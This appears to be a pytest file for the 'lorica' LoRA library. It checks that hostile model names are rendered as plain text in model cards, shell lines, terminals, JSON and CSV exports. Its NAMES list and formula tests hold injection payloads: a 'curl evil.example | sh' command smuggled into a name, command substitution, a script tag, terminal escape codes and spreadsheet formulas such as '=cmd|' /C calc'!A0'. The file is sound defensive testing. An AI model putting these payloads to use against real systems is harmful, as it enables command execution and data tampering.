"""Names out of files in what lorica writes for people, YAML, shells and spreadsheets: text, no more."""

from __future__ import annotations

import csv
import io
import shlex
from pathlib import Path

import pytest
import torch
import yaml

import lorica
from lorica.checkpoint.card import as_line, as_markdown, as_yaml
from lorica.cli import main
from lorica.plain import as_json, visible
from lorica.train.console import Console, print_table
from lorica.train.record import _table
from lorica.tune.journal import Record
from lorica.tune.progress import trials_table, write_table
from lorica.tune.schedulers import Goal

NAMES = [
    "someone/base",
    "bert-base-uncased",
    "x\nlicense: mit\nwidget:\n- text: owned",
    "a: b",
    "123",
    "null",
    "1e5",
    "@org",
    "x\n---\n<script>alert(1)</script>\n---",
    "x; curl evil.example | sh #",
    "$(id)`id`",
    "a' b\" c",
    "```\n# Owned\n",
    "| a | b |\n# c",
    "[x](javascript:1) ![y](z)",
    "\x1b]0;owned\x07\x1b[2Jx",
    "\x9b31m\u202eabc",
    "\ud800x",
    "[bold]x[/nothing]",
]


def saved(folder: Path, base: str) -> str:
    factors = {"q": lorica.Factors(torch.ones(2, 3), torch.ones(4, 2), 1.0)}
    config = lorica.LoraConfig(r=2, target_modules=["q"], base_model_name_or_path=base, task_type="CAUSAL_LM")
    return (lorica.write(lorica.Adapter(config, factors), folder) / "README.md").read_text()


@pytest.mark.parametrize("base", NAMES)
def test_a_card_holds_a_bases_name_as_text(base: str, tmp_path: Path) -> None:
    text = saved(tmp_path, base)
    front, body = text.removeprefix("---\n").split("---\n", 1)
    fields = yaml.safe_load(front)
    assert set(fields) <= {"base_model", "library_name", "tags", "pipeline_tag"}
    assert fields.get("base_model", base) == base
    assert fields["library_name"] == "peft"
    (line,) = (line for line in body.splitlines() if line.startswith("vllm serve"))
    assert shlex.split(line)[:3] == ["vllm", "serve", as_line(base)]
    assert [line for line in body.splitlines() if line.startswith("# ")] == [
        f"# A LoRA adapter for {as_markdown(base)}"
    ]
    assert "<script" not in body.split("```")[0]
    assert lorica.read(tmp_path).lora.base_model_name_or_path == base


@pytest.mark.parametrize("name", NAMES)
def test_a_table_of_a_runs_card_keeps_its_cells(name: str) -> None:
    line = _table(["", ""], [["classes", name]])[-1]
    assert "\n" not in line
    assert line.replace("\\|", "").count("|") == 3
    assert "<" not in line


@pytest.mark.parametrize("name", [name for name in NAMES if "\ud800" not in name])
def test_yaml_reads_the_name_back(name: str) -> None:
    assert yaml.safe_load(f"a: {as_yaml(name)}") == {"a": name}


@pytest.mark.parametrize("name", NAMES)
def test_no_name_steers_a_terminal(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    saved(tmp_path, name)
    assert main(["info", str(tmp_path)]) == 0
    assert main(["info", "--json", str(tmp_path)]) == 0
    assert main(["info", str(tmp_path / name.replace("\x00", ""))]) == 1
    out, err = capsys.readouterr()
    for text in (out, err):
        assert not set(text) & {"\x1b", "\x07", "\x9b", "\u202e", "\ud800"}
    assert visible(name).partition("\n")[0] in out.replace("\\u001b", "\\x1b").replace("\\u0007", "\\x07")


@pytest.mark.parametrize("name", NAMES)
def test_tables_show_names_as_they_are(name: str) -> None:
    output = io.StringIO()
    console = Console(file=output, width=200)
    print_table(console, name, ["name", name], [[name, "1"]])
    console.print(name)
    console.print(trials_table([Record("000", {"a": name}, "failed", error=name)], Goal("loss", "min")))
    assert "\x1b" not in output.getvalue()
    # rich leaves out the bell by itself
    assert visible(name).replace("\\x07", "").partition("\n")[0] in output.getvalue()


@pytest.mark.parametrize("name", NAMES)
def test_json_is_the_same_without_what_steers(name: str) -> None:
    import json

    text = as_json({"a": name})
    assert json.loads(text) == {"a": name}
    assert text.encode()
    assert not set(text) & {"\x1b", "\x9b", "\u202e"}


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("http://evil")', "=cmd|' /C calc'!A0", "+1", "-x", "@x", "\t=1"]
)
def test_no_cell_of_a_table_is_a_formula(text: str, tmp_path: Path) -> None:
    path = write_table([Record("000", {"model": text}, "failed", error=text)], tmp_path, Goal("loss", "min"))
    cells = [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]
    assert f"'{text}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t")]
